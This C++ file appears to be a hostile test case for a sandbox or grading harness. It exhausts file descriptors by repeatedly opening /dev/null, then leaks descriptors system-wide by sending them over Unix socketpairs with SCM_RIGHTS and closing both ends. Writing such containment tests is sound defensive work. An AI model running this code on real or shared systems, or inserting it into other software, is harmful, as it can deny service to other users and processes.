// Tries: to use up descriptors, its own and the system's, and to send them around
// Tests: any
#include "tests/grading/hostile/prelude.h"

void attack(int /*argc*/, char** /*argv*/)
{
    say("descriptors");
    std::vector<int> kept;
    for (int fd = ::open("/dev/null", O_RDONLY); fd != -1; fd = ::open("/dev/null", O_RDONLY)) {
        kept.push_back(fd);
    }
    say(std::to_string(kept.size()) + " descriptors" + (kept.size() > 65'536 ? ": DONE" : ""));
    ::close(kept.back());
    ::close(kept.at(kept.size() - 2));
    // Sent and never received, they belong to no process.
    std::array<int, 2> pair{};
    for (int round = 0;
         round < 100 && ::socketpair(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK, 0, pair.data()) == 0;
         ++round) {
        std::array<char, CMSG_SPACE(sizeof(int))> control{};
        msghdr message{};
        message.msg_control = control.data();
        message.msg_controllen = control.size();
        cmsghdr* const header = CMSG_FIRSTHDR(&message);
        header->cmsg_level = SOL_SOCKET;
        header->cmsg_type = SCM_RIGHTS;
        header->cmsg_len = CMSG_LEN(sizeof(int));
        std::memcpy(CMSG_DATA(header), &pair[0], sizeof(int));
        ::sendmsg(pair[1], &message, 0);
        ::close(pair[0]);
        ::close(pair[1]);
    }
    for (const int fd : kept) {
        ::close(fd);
    }
}
